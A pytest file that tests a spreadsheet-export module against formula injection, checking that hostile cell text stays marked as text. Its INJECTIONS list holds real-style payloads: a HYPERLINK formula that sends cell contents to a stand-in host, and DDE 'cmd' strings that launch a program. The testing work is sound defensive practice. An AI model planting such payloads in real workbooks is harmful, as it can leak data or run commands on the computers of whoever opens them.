"""Workbooks we write: what stands in a cell is what was put there, whatever it looks like (threat 19)."""

from __future__ import annotations

import ast
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

import docgen.sheets
from docgen.sheets.tables import write_table
from docgen.sheets.writing import new_workbook, put, save

INJECTIONS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"xem")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


@pytest.mark.parametrize("text", INJECTIONS)
def test_requirement_51_row_19_text_never_becomes_a_formula(tmp_path: Path, text: str) -> None:
    """This test ensures that titles, headings, notes, rows and single cells keep such a text as text, marked so."""
    path = tmp_path / "bang.xlsx"
    write_table(path, text, [text, "Ngày"], [[text, dt.date(2026, 7, 1)]], notes=(text,))
    workbook, sheet = new_workbook("Bảng")
    put(sheet, 1, 1, text)
    save(workbook, tmp_path / "o.xlsx")
    for file, count in ((path, 4), (tmp_path / "o.xlsx", 1)):
        cells = [cell for row in load_workbook(file).active.iter_rows() for cell in row if isinstance(cell.value, str)]
        alike = [cell for cell in cells if cell.value.strip() == text.strip()]
        assert len(alike) == count
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.quotePrefix for cell in alike if text[0] in "=+-@")


def test_requirement_51_row_19_every_export_goes_through_that_door() -> None:
    """This test ensures that no module of the room sets the value of a cell but the one that keeps text text."""
    setters = {
        path.name
        for path in Path(docgen.sheets.__path__[0]).glob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Assign)
        and any(isinstance(target, ast.Attribute) and target.attr == "value" for target in node.targets)
    }
    assert setters == {"writing.py"}
